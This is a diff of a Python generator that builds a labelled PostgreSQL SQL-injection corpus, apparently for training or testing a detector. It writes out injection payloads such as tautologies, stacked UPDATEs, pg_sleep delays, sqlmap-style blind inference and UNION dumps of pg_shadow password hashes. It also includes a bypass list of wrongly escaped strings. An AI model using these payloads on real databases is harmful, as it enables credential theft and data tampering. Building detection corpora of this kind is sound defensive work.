@@ -159,14 +159,9 @@ lists and benign generators are new for this file:
   publications, GRANT SET ON PARAMETER, BEGIN ATOMIC, typed literals and
   more).
 
-Labelling: a filled template is an attack only when its token skeleton (the
-lexer in corpus_kit.py: literals collapsed to their kind, everything else
-kept) is not one of the skeletons of benign fills of the same template, i.e.
-the input stopped being the single token its slot expects.  Comment-truncation
-rows must in addition comment out template text that carries meaning.  Attack
-strings escaped correctly for their slot are benign (`escaped_attack_string`);
-five rows (`escape_bypass_backslash`) are escaped the wrong way for their
-literal (addslashes into a standard string, quote doubling only into E'').
+Labelling: see corpus_kit.SlotCorpus; the five `escape_bypass_backslash`
+rows are escaped the wrong way for their literal (addslashes into a
+standard string, quote doubling only into E'').
 
 Checked once against PostgreSQL 15.18's raw parser (throwaway cluster, each
 statement sent as `SELECT 1/0;` + statement in one simple query, so nothing
@@ -185,7 +180,10 @@ in the seventh to thirteenth corpora.
 import base64, os, random, re, sys
 
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
-from corpus_kit import (Collector, STRING_TYPES, chrs, closers, esc, lex, load_earlier, nulls, print_summary, q, randnum, rdate, registry, rstr, rword, skeleton, strip_andor, write_corpus)  # noqa: E402
+from corpus_kit import (SQLMAP_FINGERPRINT, SlotCorpus, addslashes, bisection, by_template, chrs, closers, dollar_safe, double_quotes,  # noqa: E402
+                        identifier_input, kind, lex, load_earlier, marked, nulls, number_input, q, quoted_ident_breakout, randnum, rdate,
+                        registry, regress_list, render, rstr, rts as ts, rword, sqlmap_delays, strip_andor, text_input, typed_input,
+                        union_request, without_spaces)
 import corpus_kit  # noqa: E402
 from functools import partial  # noqa: E402
 
@@ -370,128 +368,32 @@ T = [
  ("t14_pgmoon_table", "TABLE marbling_batches_{a}",
   {"a": ("ident", ["2024", "spring"])}),
 ]
-TPL = {t[0]: t for t in T}
 TAG = "$note$"
 CLOSER = closers(TAG)
-segments = partial(corpus_kit.segments, closer=CLOSER)
-edit = partial(corpus_kit.edit, closer=CLOSER)
-SLOT_RE = re.compile(r"\{([a-f])\}")
-
-
-def spec(tpl, slot):
-    return tpl[2][slot]
-
-
-def kind(tpl, slot):
-    """The value kind of a typed slot ('' for a free one)."""
-    s = spec(tpl, slot)
-    return s[2][6:] if len(s) > 2 and s[2].startswith("typed:") else ""
-
-
-def render(tpl, fills, raw=(), escf=None):
-    """The template with its slots filled: slots named in raw go in as typed,
-    the others escaped for their literal (or by escf[slot])."""
-    def fill(m):
-        k = m.group(1)
-        v = fills[k]
-        if k in raw:
-            return v
-        if escf and k in escf:
-            return escf[k](v)
-        return esc(spec(tpl, k)[0], v)
-    return SLOT_RE.sub(fill, tpl[1])
-
+segments, edit = corpus_kit.slot_editing(CLOSER)     # the kit's slot editing, with this corpus's closing quotes
 
 # values every slot of a type accepts besides the template's own: the
 # skeletons of these benign fills are the template's reference skeletons
 CANON = {"q": ["w", "", "Ó Murchú", "three word value", "2031-05-06", "50%", "shouldn't"], "e": ["w", "", "doesn't", "C:\\sugar\\shack", "tab\there", "one\ntwo"],
          "d": ["w", "", "they're", "\"dq\""], "qi": ["w", "Odd \"Name\"", "name with space"], "n": ["4", "0", "-12", "3.25", "2500000", "0.125"],
          "list": ["6", "6, 7", "10,11,12", "31, 32, 33, 34"], "dir": ["ASC", "DESC", "asc", "desc"], "col": [], "ident": []}
-REFS = {}
-
-
-def ref_skeletons(tpl):
-    if tpl[0] not in REFS:
-        base = {k: v[1][0] for k, v in tpl[2].items()}
-        out = set()
-        for k, sp in tpl[2].items():
-            for v in list(sp[1]) + CANON[sp[0]]:
-                f = dict(base)
-                f[k] = v
-                out.add(skeleton(render(tpl, f)))
-        REFS[tpl[0]] = out
-    return REFS[tpl[0]]
-
-
+ref_skeletons = by_template(partial(corpus_kit.ref_skeletons, canon=CANON))
 CLAUSES = ("SELECT", "FROM", "WHERE", "GROUP", "HAVING", "ORDER", "LIMIT", "OFFSET", "FETCH", "SET", "VALUES", "RETURNING", "TO", "INTO", "ON",
            "TABLESAMPLE", "TABLE", "OVER", "ROWS", "RANGE", "GROUPS")
 COND_CLAUSES = ("WHERE", "HAVING", "ON")
-INFO = {}
 
 
+@by_template
 def slot_info(tpl, slot):
-    """What a breakout into this slot has to know: the brackets open around it
-    (closers, innermost first) and the word before each, the statement's
-    first word, the clause it sits in, whether a condition can be appended
-    there, whether template text after it still carries meaning, and more."""
-    key = (tpl[0], slot)
-    if key in INFO:
-        return INFO[key]
-    typ = spec(tpl, slot)[0]
-    f = {k: v[1][0] for k, v in tpl[2].items()}
-    f[slot] = "\x00"
-    text = render(tpl, f, raw=(slot,))
-    i = text.index("\x00")
-    pre, post = text[:i], text[i + 1:]
-    toks = [t for t in lex(pre) if t[0] != "C"]
-    if typ in STRING_TYPES and toks and toks[-1][0] in ("US", "UQ"):
-        toks = toks[:-1]
-    stack, ctx, subq = [], [], []
-    for idx, (k, _) in enumerate(toks):
-        if k in "([":
-            stack.append(")" if k == "(" else "]")
-            ctx.append(toks[idx - 1][1] if idx and toks[idx - 1][0] == "W" else "")
-            subq.append(idx + 1 < len(toks) and toks[idx + 1][1] in ("SELECT", "WITH", "VALUES"))
-        elif k in ")]" and stack:
-            stack.pop()
-            ctx.pop()
-            subq.pop()
-    cond_k = 0
-    for sq in reversed(subq):
-        if sq:
-            break
-        cond_k += 1
-    rest = post
-    if typ in STRING_TYPES:
-        j = post.find(CLOSER[typ])
-        rest = post[j + len(CLOSER[typ]):]
-    means = False
-    skip = False
-    for k, v in lex(rest):
-        if skip:
-            skip = False
-            continue
-        if k == "::":
-            skip = True
-            continue
-        if k in ("W", "N", "P", "S", "Q"):
-            means = True
-    words = [v for k, v in toks if k == "W"]
-    clause = next((w for w in reversed(words) if w in CLAUSES), "")
-    lead = next((v for k, v in lex(tpl[1]) if k == "W"), "")
-    sp = spec(tpl, slot)
-    orig = [v for v in sp[1] if typ not in CLOSER or CLOSER[typ] not in v] or ["x"]
-    info = {"type": typ, "closers": "".join(reversed(stack)), "ctx": ctx, "lead": lead, "clause": clause,
-            "prev_word": words[-1] if words else "", "tail_means": means, "orig": orig, "kind": kind(tpl, slot),
-            "between_lo": bool(words) and words[-1] in ("BETWEEN", "SYMMETRIC"), "like": pre.endswith("%") or post.startswith("%"),
-            "cut": sp[3] if len(sp) > 3 else None, "template": tpl[0],
-            "in_order": clause == "ORDER", "in_limit": clause in ("LIMIT", "OFFSET", "FETCH", "TABLESAMPLE"),
-            "in_values": "VALUES" in ctx or clause == "VALUES",
-            "cond_ok": clause in COND_CLAUSES or (lead == "UPDATE" and clause == "SET" and not stack),
-            "select": lead in ("SELECT", "WITH") or (lead == "PREPARE" and "SELECT" in words) or (lead == "CREATE" and "SELECT" in words),
-            "bare_select": lead == "SELECT" and "FROM" not in [v for k, v in lex(tpl[1]) if k == "W"],
-            "slice": "]" in stack, "cond_k": cond_k}
-    INFO[key] = info
+    """What a breakout into this slot has to know (corpus_kit.slot_facts),
+    and besides: whether it sits in a VALUES list, whether a condition can
+    be appended there, whether the statement is a query."""
+    info = corpus_kit.slot_facts(tpl, slot, CLOSER, CLAUSES, limit_clauses=("LIMIT", "OFFSET", "FETCH", "TABLESAMPLE"))
+    lead, clause, words = info["lead"], info["clause"], info["words"]
+    info.update({"in_values": "VALUES" in info["ctx"] or clause == "VALUES",
+                 "cond_ok": clause in COND_CLAUSES or (lead == "UPDATE" and clause == "SET" and not info["closers"]),
+                 "select": lead in ("SELECT", "WITH") or (lead == "PREPARE" and "SELECT" in words) or (lead == "CREATE" and "SELECT" in words),
+                 "bare_select": lead == "SELECT" and "FROM" not in [v for k, v in lex(tpl[1]) if k == "W"]})
     return info
 
 
@@ -687,14 +589,8 @@ def sqlmap_query(r, o):
     who = r.choice(["postgres", "sugar_rw", "pyro_app", "wordpress", "saddlery", "hatchery_ro"])
     if k == 0:
         return o.cast("VERSION()") if o.hex else "VERSION()", "--banner"
-    if k == 1:
-        return "CURRENT_USER", "--current-user"
-    if k == 2:
-        return "CURRENT_SCHEMA()", "--current-db"
-    if k == 3:
-        return "INET_SERVER_ADDR()", "--hostname"
-    if k == 4:
-        return "(SELECT usesuper=true FROM pg_user WHERE usename=CURRENT_USER OFFSET 0 LIMIT 1)", "--is-dba"
+    if k < 5:
+        return SQLMAP_FINGERPRINT[k]
     if k == 5:
         f = r.choice(["sys_eval", "sys_exec", "sys_bineval"])
         return "(SELECT proname=%s FROM pg_proc WHERE proname=%s OFFSET 0 LIMIT 1)" % (o.s(f), o.s(f)), "--udf-inject (check)"
@@ -747,16 +643,6 @@ def sqlmap_query(r, o):
     return "(SELECT %s)" % o.cast(r.choice(["current_setting(%s)" % o.s("is_superuser"), "inet_client_port()", "pg_backend_pid()", "current_setting(%s)" % o.s("data_directory")])), "--sql-query"
 
 
-def halves(v):
-    """The values sqlmap's bisection compares with while guessing the code point v."""
-    lo, hi, seen = 0, 127, []
-    while lo < hi:
-        mid = (lo + hi) // 2
-        seen.append(mid)
-        lo, hi = (mid + 1, hi) if v > mid else (lo, mid)
-    return seen
-
-
 def sqlmap_inference(r, o):
     x = r.random()
     if x < 0.08:
@@ -770,9 +656,9 @@ def sqlmap_inference(r, o):
         sw += " " + o.tag
     if x < 0.7:
         v = r.choice([r.randint(97, 122), r.randint(48, 57), r.randint(65, 90), 95, 36, 46])
-        return "ASCII(SUBSTRING((%s)::text FROM %d FOR 1))>%d" % (e, r.randint(1, 48), r.choice(halves(v))), sw
+        return "ASCII(SUBSTRING((%s)::text FROM %d FOR 1))>%d" % (e, r.randint(1, 48), r.choice(bisection(v))), sw
     if x < 0.84:
-        return "ASCII(SUBSTRING((LENGTH(%s))::text FROM %d FOR 1))>%d" % (e, r.randint(1, 2), r.choice(halves(r.randint(48, 57)))), sw + " (length)"
+        return "ASCII(SUBSTRING((LENGTH(%s))::text FROM %d FOR 1))>%d" % (e, r.randint(1, 2), r.choice(bisection(r.randint(48, 57)))), sw + " (length)"
     if x < 0.94:
         return "ASCII(SUBSTRING((%s)::text FROM %d FOR 1))!=%d" % (e, r.randint(1, 32), r.randint(33, 126)), sw + " (validation)"
     return "ASCII(SUBSTRING((%s)::text FROM %d FOR 1))=%d" % (e, r.randint(1, 32), r.randint(48, 122)), sw + " (predict)"
@@ -795,10 +681,7 @@ def sqlmap_tests(r, vector):
         INF = r.choice(["%d=%d" % (R1, R1)] * 5 + ["%d=%d" % (R1, R2), "%d>%d" % (max(R1, R2) + 1, min(R1, R2))])
         Q = "(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END))" % (R2, R2)
         tag = ":detection"
-    H = "%d000000" % T
-    SL = "(SELECT %d FROM PG_SLEEP(%d))" % (R, T)
-    CW = lambda then: "(CASE WHEN (%s) THEN %s ELSE %d END)" % (INF, then, R) if vector else then
-    HQ = "(SELECT COUNT(*) FROM GENERATE_SERIES(1,%s))" % H
+    H, SL, CW, HQ = sqlmap_delays(R, T, INF, vector)
     B, TB, EB, SQ, IQ = "sqlmap_boolean_blind", "sqlmap_time_blind", "sqlmap_error_based", "sqlmap_stacked_queries", "sqlmap_inline_query"
     GS = "GENERATE_SERIES(%d,%d,CASE WHEN (%s) THEN 1 ELSE 0 END)" % (R, R, INF)
     out = [
@@ -882,14 +765,7 @@ def sqlmap_takeover(r):
 
 def sqlmap_union(r, vector):
     """(title, dbms, payload, where): UNION query technique requests."""
-    n = r.randint(1, 15)
-    pos = r.randrange(n)
-    filler = r.choice(["NULL"] * 3 + [str(randnum(r))])
-    cols = [filler] * n
-    kw = r.choice(["UNION ALL SELECT"] * 3 + ["UNION SELECT"])
-    lo = (n - 1) // 10 * 10 + 1
-    rng = "%d to %d" % (lo, lo + 9)
-    where = 2 if r.random() < 0.45 else 1
+    n, pos, filler, cols, kw, rng, where = union_request(r, 15, 3, 3, 0.45)
     x = r.randrange(10)
     if x == 0:
         return "Generic UNION query - ORDER BY technique", "generic", "ORDER BY %d" % r.randint(1, 25), 1
@@ -903,24 +779,12 @@ def sqlmap_union(r, vector):
         cols[pos] = "%s||COALESCE(CAST(%s AS VARCHAR(10000))::text,(CHR(32)))||%s" % (m1, r.choice(["SESSION_USER", "CURRENT_DATABASE()", "INET_SERVER_PORT()", "PG_BACKEND_PID()"]), m2)
         return "Generic UNION query - %s columns (fingerprint)" % rng, PG, "%s %s" % (kw, ",".join(cols)), where
     if x == 4:
-        parts = [m1]
-        for i, c in enumerate(["usename", "usesuper"]):
-            if i:
-                parts.append(m3)
-            parts.append("COALESCE(CAST(%s AS VARCHAR(10000))::text,(CHR(32)))" % c)
-        parts.append(m2)
-        cols[pos] = "||".join(parts)
+        cols[pos] = marked(["COALESCE(CAST(%s AS VARCHAR(10000))::text,(CHR(32)))" % c for c in ["usename", "usesuper"]], m1, m3, m2)
         return "Generic UNION query - %s columns (--privileges)" % rng, PG, "%s %s FROM pg_user" % (kw, ",".join(cols)), where
     src = r.choice([("pg_shadow", ["usename", "passwd"]), ("pg_database", ["datname"]), ("pg_stat_activity", ["query"]),
                     ("pg_tables", ["tablename"]), ("information_schema.columns", ["column_name", "data_type"])]
                    + [("public." + t, c) for t, c in sorted(DUMP_TABLES.items())])
-    parts = [m1]
-    for i, c in enumerate(src[1]):
-        if i:
-            parts.append(m3)
-        parts.append("COALESCE(CAST(%s AS VARCHAR(10000))::text,(CHR(32)))" % c)
-    parts.append(m2)
-    cols[pos] = "||".join(parts)
+    cols[pos] = marked(["COALESCE(CAST(%s AS VARCHAR(10000))::text,(CHR(32)))" % c for c in src[1]], m1, m3, m2)
     tail = r.choice(["", "", " OFFSET %d LIMIT 1" % r.randint(0, 40), " ORDER BY 1 OFFSET %d LIMIT 1" % r.randint(0, 9)])
     return "Generic UNION query - %s columns (dump %s)" % (rng, src[0]), PG, "%s %s FROM %s%s" % (kw, ",".join(cols), src[0], tail), where
 
@@ -1085,6 +949,22 @@ def tamper(r, name, s, typ):
 TAMPERS = ["versionedkeywords", "halfversionedmorekeywords", "modsecurityversioned", "modsecurityzeroversioned", "space2mysqlblank", "space2hash",
            "space2morehash", "unmagicquotes", "concat2concatws", "between,randomcase,space2comment", "space2comment,randomcase",
            "equaltolike,space2randomblank", "commentbeforeparentheses,randomcase", "between,space2randomblank", "randomcase,versionedkeywords"]
+
+
+def union_fits(si):
+    """Whether sqlmap's UNION technique is tried on the slot: in a query (a TABLE statement too), not in ORDER BY, LIMIT or VALUES."""
+    if not (si["select"] or si["lead"] == "TABLE") or si["in_order"] or si["in_limit"] or si["in_values"] or si["type"] in ("col", "dir"):
+        return False
+    return si["type"] != "ident" or si["lead"] == "TABLE"
+
+
+def misfit(r, si, place):
+    """sqlmap probes conditions where none can be appended too, but mostly in vain."""
+    return place in ("cond", "order") and not si["cond_ok"] and not si["in_order"] and r.random() < 0.8
+
+
+SQLMAP = corpus_kit.Sqlmap(tests=sqlmap_tests, union=sqlmap_union, takeover=sqlmap_takeover, value=sqlmap_value, tamper=tamper, tampers=TAMPERS,
+                           union_fits=union_fits, misfit=misfit, vector_share=0.62, takeover_share=0.22, tamper_share=0.13)
 
 
 # ---------------------------------------------------------------- hand-written PostgreSQL techniques
@@ -1392,12 +1272,7 @@ def breakout(r, si, orig, mode, core):
             return lv + qc + close_all + r.choice([";", "; ", ";\n", ";\r\n"]) + core + r.choice([";", "", ""]) + sp() + ending(r)
         return None
     if typ == "qi":
-        if mode == "stack":
-            return orig + '"' + close_all + r.choice([";", "; "]) + core + r.choice([";", ""]) + sp() + ending(r)
-        if mode in ("order", "cond") and si["in_order"]:
-            ex = core if mode == "order" else "(CASE WHEN %s THEN 1 ELSE 1/0 END)" % strip_andor(core)
-            return orig + '", ' + ex + sp() + ending(r)
-        return None
+        return quoted_ident_breakout(r, si, orig, mode, core, close_all, lambda: sp() + ending(r))
     if typ in ("n", "list"):
         if mode == "open":
             return None
@@ -1446,17 +1321,12 @@ MODES = {"q": ("cond", "open", "union", "stack", "repl", "concat"), "e": ("cond"
          "list": ("cond", "union", "stack", "repl", "concat"), "col": ("cond", "order", "repl", "stack"), "dir": ("cond", "order", "stack"), "ident": ("stack", "union")}
 
 
-def fitting(si, cores):
-    return [c for c in cores if c[1] in MODES[si["type"]]]
+hand = partial(corpus_kit.hand_payload, cores=hand_cores, fitting=partial(corpus_kit.fitting, modes=MODES), breakout=breakout)
 
 
 # ---------------------------------------------------------------- obfuscation of a built payload (outside its literals and comments)
 def obfuscate(r, fam, s, typ):
     segs = segments(s, typ)
-    nxt = {i: (segs[i + 1][0] if i + 1 < len(segs) else "") for i in range(len(segs))}
-
-    def glue_ok(i):
-        return not re.match(r"(\$|[eEbBxXnN]'|[uU]&)", nxt[i])
 
     if fam == "obf_case_mix":
         style = r.randrange(5)
@@ -1496,19 +1366,13 @@ def obfuscate(r, fam, s, typ):
             return t
         return "".join(ic(t) if e else t for t, e in segs)
     if fam == "obf_nospace":
-        parts = []
-        for i, (t, e) in enumerate(segs):
-            if e:
-                t = re.sub(r" *([=<>!|,()+*;~&^@?]+) *", r"\1", t)
-                t = re.sub(r"\b(OR|AND|or|and|NOT|not|SELECT|select|WHEN|when|THEN|then|ELSE|else|IN|in) (\d+|true|false|current_user|session_user)\b",
-                           lambda m: m.group(1) + "(" + m.group(2) + ")", t)
-                t = re.sub(r"\b(FROM|from) ([a-z_]+)\b", lambda m: m.group(1) + '"' + m.group(2) + '"' if r.random() < 0.4 else m.group(0), t)
-                if i > 0 or typ in STRING_TYPES:
-                    t = t.lstrip(" ")
-                if i + 1 < len(segs) and glue_ok(i):
-                    t = t.rstrip(" ")
-            parts.append(t)
-        return "".join(parts)
+        def squeeze(t):
+            t = re.sub(r" *([=<>!|,()+*;~&^@?]+) *", r"\1", t)
+            t = re.sub(r"\b(OR|AND|or|and|NOT|not|SELECT|select|WHEN|when|THEN|then|ELSE|else|IN|in) (\d+|true|false|current_user|session_user)\b",
+                       lambda m: m.group(1) + "(" + m.group(2) + ")", t)
+            t = re.sub(r"\b(FROM|from) ([a-z_]+)\b", lambda m: m.group(1) + '"' + m.group(2) + '"' if r.random() < 0.4 else m.group(0), t)
+            return t
+        return without_spaces(segs, typ, squeeze)
     raise KeyError(fam)
 
 
@@ -1524,10 +1388,6 @@ SIIDA = ["Gáregasnjárga", "Fávllis", "Lákkonjárga", "Ábborašša", "Suoš�
 TUNES = ["Blaze Away", "Colonel Bogey", "The Dark Island", "Scotland the Brave", "Highland Cathedral", "Mull of Kintyre"]
 YURTS = ["Larch", "Rowan", "Birch", "Hazel", "Alder", "Willow"]
 SHELLS = ["peony", "chrysanthemum", "crossette", "willow", "palm", "strobe", "kamuro"]
-
-
-def ts(r, lo=2021, hi=2026):
-    return "%s %02d:%02d:%02d" % (rdate(r, lo, hi), r.randint(0, 23), r.randint(0, 59), r.randint(0, 59))
 
 
 def ids(r, k=None, hi=9000):
@@ -2159,8 +2019,7 @@ REGRESS_FIXED = [
 
 
 def regress_rows(r):
-    out = [("regress14:%s.sql" % f, s) for f, s in REGRESS_FIXED]
-    add = lambda f, s: out.append(("regress14:%s.sql" % f, s))
+    out, add = regress_list("regress14", REGRESS_FIXED)
     for typ, vals in [("int2", ["'  -32767'", "'0077'"]), ("int4", ["'-2147483647'", "'  42  '"]), ("int8", ["'9223372036854775807'", "'-0042'"]),
                       ("float4", ["'3.40282e38'", "' nan '"]), ("float8", ["'1.7976931348623157e308'", "'-inf'"]), ("numeric", ["'123456789012345678.9'", "'NaN'"]),
                       ("date", ["'2025-07-18'", "'July 18, 2025'", "'20250718'", "'-infinity'", "'1999-01-08 04:05:06'"]), ("time", ["'23:59:59.999999'", "'1:02 PM'"]),
@@ -2222,23 +2081,6 @@ def regress_rows(r):
 
 
 # ---------------------------------------------------------------- assembly
-ATTACK_TARGET = {"sqlmap_time_blind": 243, "sqlmap_boolean_blind": 228, "sqlmap_error_based": 176, "sqlmap_stacked_queries": 93,
-    "sqlmap_union_query": 69, "sqlmap_inline_query": 19, "tautology": 63, "stacked": 52, "oob_file_program": 38, "time_pg_sleep": 33,
-    "boolean_blind": 32, "comment_truncation": 30, "error_cast": 30, "obf_whitespace": 27, "obf_case_mix": 26, "obf_nospace": 26,
-    "obf_inline_comment": 25, "dollar_quote": 25, "e_escape": 20, "plpgsql_do_exec": 20, "union": 18, "string_concat_subquery": 18,
-    "escape_bypass_backslash": 5}
-INPUT_TARGET = {"input_numeric": 160, "input_formatted": 150, "input_plain": 76, "input_unicode": 35, "input_long_text": 34,
-    "input_punctuation": 28, "input_apostrophe_names": 25, "input_sql_words": 23, "input_json_text": 22, "input_whitespace": 21,
-    "input_url_email": 20, "input_numeric_string": 18, "input_identifier": 6}
-ESCAPED_TARGET = 103
-COMPLEX_TARGET = {"complex_orm_generated": 80, "complex_builtin_funcs": 80, "complex_comments_hints": 60, "complex_cte_window": 43,
-    "complex_query_builder": 40, "complex_migration_script": 40, "complex_union_report": 21, "complex_batch_insert": 20,
-    "complex_maintenance_admin": 20, "complex_transactions": 20, "complex_copy_stdin": 17, "complex_ddl_migration": 17,
-    "complex_orm_introspection": 8, "complex_parameterized": 4, "complex_plpgsql_body": 5, "complex_search_complex": 4}
-REGRESS_TARGET = 298
-SQLMAP_FAMILIES = ["sqlmap_time_blind", "sqlmap_boolean_blind", "sqlmap_error_based", "sqlmap_stacked_queries", "sqlmap_union_query", "sqlmap_inline_query"]
-HAND_FAMILIES = ["tautology", "stacked", "oob_file_program", "time_pg_sleep", "boolean_blind", "error_cast", "dollar_quote", "e_escape",
-                 "plpgsql_do_exec", "union", "string_concat_subquery"]
 OBF_BASES = ["tautology", "stacked", "union", "time_pg_sleep", "boolean_blind", "error_cast", "oob_file_program", "string_concat_subquery",
              "plpgsql_do_exec", "dollar_quote", "sqlmap"]
 KIND_FAMILY = {"date": "input_formatted", "ts": "input_formatted", "interval": "input_formatted", "regex": "input_formatted", "like": "input_formatted",
@@ -2248,266 +2090,62 @@ TRUNC_STYLES = [("dashdash_hash", "--#"), ("dashdash_semicolon", "--;"), ("dashd
                 ("dashdash_space_word", None), ("dashdash_space_dashdash", "-- --"), ("dashdash_equals", "--="), ("semicolon_dashdash_tab", ";--\t"),
                 ("block_unclosed_word", None), ("dashdash_pipe", "--|"), ("dashdash_caret", "--^"), ("dashdash_apostrophe_space", "--' "),
                 ("dashdash_bang_dash", "--!-"), ("semicolon_block_unclosed", "; /*")]
+# the application escapes quotes the wrong way for its literal
+BYPASS = [("addslashes_into_standard_string", "t14_wpdb_options", "a", "woodburner_policy' OR 1=1 -- ", addslashes),
+          ("doubling_into_e_string", "t14_jdbctemplate_diagnosis", "a", "\\'; UPDATE tack_repair_queue SET claimed_by = NULL; -- ", double_quotes),
+          ("addslashes_into_standard_string", "t14_pgmoon_pigments", "b", "ox gall' UNION SELECT usename, passwd FROM pg_shadow -- ", addslashes),
+          ("doubling_into_e_string", "t14_diesel_splice_note", "a", "\\' || (SELECT string_agg(usename, chr(44)) FROM pg_user) -- ", double_quotes),
+          ("addslashes_into_standard_string", "t14_ecto_runs", "a", "nursery') OR true -- ", addslashes),
+          ("addslashes_into_standard_string", "t14_laravel_finds", "a", "T. aestivum' AND 1=(SELECT 1 FROM pg_sleep(4)) -- ", addslashes)]
+
+
+def truncation_style(r):
+    """(name, comment) cutting off the rest of the statement."""
+    style, c = r.choice(TRUNC_STYLES)
+    if c is None:
+        c = "-- " + rword(r, 4) if style == "dashdash_space_word" else "/* " + rword(r, 5)
+    return style, c
+
+
+TRUNCATION = {"style": truncation_style, "origs": ["admin", "", "root", "guest"], "spaces": ["", " ", "  "]}
+
+
+def numeric_value(r):
+    return r.choice([str(r.randint(0, 9999)), str(r.randint(1, 90)), "%d.%02d" % (r.randint(0, 900), r.randint(0, 99)),
+                     "%.3f" % r.uniform(0, 5), str(r.randint(10 ** 6, 10 ** 9)), "0", "-%d" % r.randint(1, 500), "%de%d" % (r.randint(1, 9), r.randint(1, 4))])
+
+
+def numeric_refused(tpl, slot, val):
+    """No sign, fraction, exponent or long number where only a small count goes."""
+    si = slot_info(tpl, slot)
+    strict = si["in_limit"] or si["slice"] or si["lead"] == "SET" or tpl[0] == "t14_pdo_trylock"
+    return strict and (val.startswith("-") or "." in val or "e" in val or len(val) > 6)
+
+
+def formatted_value(r):
+    return r.choice(["%s-%05d" % (rword(r, 3, upper=True), r.randint(0, 99999)), "%012X" % r.getrandbits(48),
+                     "+47 %03d %02d %03d" % (r.randint(0, 999), r.randint(0, 99), r.randint(0, 999)), "%032x" % r.getrandbits(128),
+                     "%d.%d.%d" % (r.randint(0, 12), r.randint(0, 40), r.randint(0, 99)), "%02d.%02d.%d" % (r.randint(1, 28), r.randint(1, 12), r.randint(2018, 2029)),
+                     "TM-%d-%04d" % (r.randint(2019, 2026), r.randint(0, 9999)), "%d mm × %d m" % (r.randint(6, 48), r.randint(10, 220))])
+
+
+def input_value(r, fam, groups):
+    """(template, slot, value) of one benign input of family fam, or None."""
+    kinds = [(t, k) for t, k in groups.typed if KIND_FAMILY[kind(t, k)] == fam]
+    if kinds and r.random() < 0.4:
+        return typed_input(r, kinds, fam, typed_value)
+    if fam == "input_numeric":
+        return number_input(r, groups.numeric, [", ", ",", " ,"], 99999, 7, numeric_value, numeric_refused)
+    if fam == "input_identifier":
+        return identifier_input(r, groups.identifier, CANON)
+    return text_input(r, groups.string, fam, POOLS, SENTS, formatted_value, 0.4, ("input_plain", "input_unicode", "input_apostrophe_names", "input_sql_words"))
 
 
 def main():
-    out_path = sys.argv[1] if len(sys.argv) > 1 else os.path.join(HERE, "fourteenth.jsonl.gz")
-    rng = random.Random(SEED)
-    collector = Collector(load_earlier(HERE, EARLIER))
-    rows, emit = collector.rows, collector.emit
-    pairs = [(t, k) for t in T for k in sorted(t[2])]
-
-    def pick():
-        tpl = rng.choice(T)
-        return tpl, rng.choice(sorted(tpl[2]))
-
-    def fills(tpl):
-        return {k: rng.choice(v[1]) for k, v in tpl[2].items()}
-
-    def attack(tpl, slot, payload, family, variant, dbms=PG, escf=None, need_tail=False):
-        f = fills(tpl)
-        f[slot] = payload
-        sql = render(tpl, f, escf=escf) if escf else render(tpl, f, raw=(slot,))
-        if skeleton(sql) in ref_skeletons(tpl):
-            return False          # stayed inside its literal: not an attack
-        if need_tail and not slot_info(tpl, slot)["tail_means"]:
-            return False
-        return emit(sql, "attack", family, tpl[0], payload, [f[k] for k in sorted(tpl[2])], variant, dbms)
-
-    string_payloads = []
-
-    def sqlmap_payload(fam, tpl, slot):
-        si = slot_info(tpl, slot)
-        orig = rng.choice(si["orig"])
-        vector = rng.random() < 0.62
-        if fam == "sqlmap_union_query":
-            if not (si["select"] or si["lead"] == "TABLE") or si["in_order"] or si["in_limit"] or si["in_values"] or si["type"] in ("col", "dir"):
-                return None
-            if si["type"] == "ident" and si["lead"] != "TABLE":
-                return None
-            title, dbms, pl, where = sqlmap_union(rng, vector)
-            val = sqlmap_value(rng, si, orig, "union", where, pl, True)
-            tag = ":vector" if vector else ":detection"
-        elif fam == "sqlmap_stacked_queries" and rng.random() < 0.22:
-            title, pl = sqlmap_takeover(rng)
-            dbms, tag = PG, ":takeover"
-            val = sqlmap_value(rng, si, orig, "stack", 1, pl, True)
-        else:
-            tests = [x for x in sqlmap_tests(rng, vector) if x[0] == fam]
-            _, title, dbms, place, where, pl, need_c, tag = rng.choice(tests)
-            if place == "cond" and (si["in_order"] or si["in_limit"]) and si["type"] not in ("col", "dir") and rng.random() < 0.8:
-                return None
-            if place in ("cond", "order") and not si["cond_ok"] and not si["in_order"] and rng.random() < 0.8:
-                return None                 # sqlmap probes these too, but mostly in vain
-            val = sqlmap_value(rng, si, orig, place, where, pl, need_c)
-        if val is None:
-            return None
-        variant = "sqlmap:%s%s" % (title, tag)
-        if rng.random() < 0.13:
-            tname = rng.choice(TAMPERS)
-            v2 = tamper(rng, tname, val, si["type"])
-            if v2 != val:
-                val, variant = v2, variant + ":tamper=" + tname
-        return val, variant, dbms
-
-    # --- sqlmap requests
-    for fam in SQLMAP_FAMILIES:
-        got = tries = 0
-        while got < ATTACK_TARGET[fam] and tries < 80000:
-            tries += 1
-            tpl, slot = pick()
-            res = sqlmap_payload(fam, tpl, slot)
-            if res is None:
-                continue
-            val, variant, dbms = res
-            if attack(tpl, slot, val, fam, variant, dbms):
-                got += 1
-                string_payloads.append((val, "%s:%s" % (fam, variant.split(":")[1])))
-
-    # --- hand-written techniques
-    for fam in HAND_FAMILIES:
-        got = tries = 0
-        while got < ATTACK_TARGET[fam] and tries < 80000:
-            tries += 1
-            tpl, slot = pick()
-            si = slot_info(tpl, slot)
-            if fam == "tautology" and si["type"] in ("col", "dir", "ident"):
-                continue
-            cands = fitting(si, hand_cores(rng, fam))
-            if not cands:
-                continue
-            name, mode, core, dbms = rng.choice(cands)
-            pl = breakout(rng, si, rng.choice(si["orig"]), mode, core)
-            if pl is None:
-                continue
-            if attack(tpl, slot, pl, fam, "%s:%s" % (fam, name), dbms):
-                got += 1
-                string_payloads.append((pl, "%s:%s" % (fam, name)))
-
-    # --- obfuscated forms: reshaped outside literals and comments
-    for fam in ["obf_whitespace", "obf_case_mix", "obf_nospace", "obf_inline_comment"]:
-        got = tries = 0
-        while got < ATTACK_TARGET[fam] and tries < 80000:
-            tries += 1
-            tpl, slot = pick()
-            si = slot_info(tpl, slot)
-            base = rng.choice(OBF_BASES)
-            if base == "sqlmap":
-                res = sqlmap_payload(rng.choice(SQLMAP_FAMILIES[:5]), tpl, slot)
-                if res is None or ":tamper=" in res[1]:
-                    continue
-                pl, name, dbms = res[0], res[1][7:], res[2]
-            else:
-                if base == "tautology" and si["type"] in ("col", "dir", "ident"):
-                    continue
-                cands = fitting(si, hand_cores(rng, base))
-                if not cands:
-                    continue
